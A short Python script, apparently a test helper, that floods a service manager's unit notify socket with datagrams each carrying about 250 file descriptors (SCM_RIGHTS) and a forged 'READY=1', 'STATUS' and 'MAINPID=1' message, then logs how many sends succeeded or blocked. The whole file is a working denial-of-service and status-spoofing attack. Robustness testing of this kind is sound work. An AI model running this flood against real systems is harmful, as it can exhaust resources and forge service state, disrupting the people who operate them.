# An outsider floods a unit's notify socket (open to every uid) with
# datagrams that each carry as many fds as the kernel lets one message
# carry (SCM_RIGHTS), a forged READY=1/STATUS=/MAINPID=, for SECONDS.
# argv: SOCKET SECONDS OUT
import array, os, socket, sys, time
path, secs, out = sys.argv[1], float(sys.argv[2]), sys.argv[3]
fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(250)]
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.setblocking(False)
msg = b"READY=1\nSTATUS=forged\nMAINPID=1"
sent = blocked = 0
end = time.time() + secs
while time.time() < end:
    try:
        s.sendmsg([msg], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))], 0, path)
        sent += 1
    except BlockingIOError:
        blocked += 1
        time.sleep(0.001)
    except OSError as e:	# ETOOMANYREFS: fds in flight over the sender's limit
        blocked += 1
        time.sleep(0.001)
open(out, "w").write("%d %d\n" % (sent, blocked))
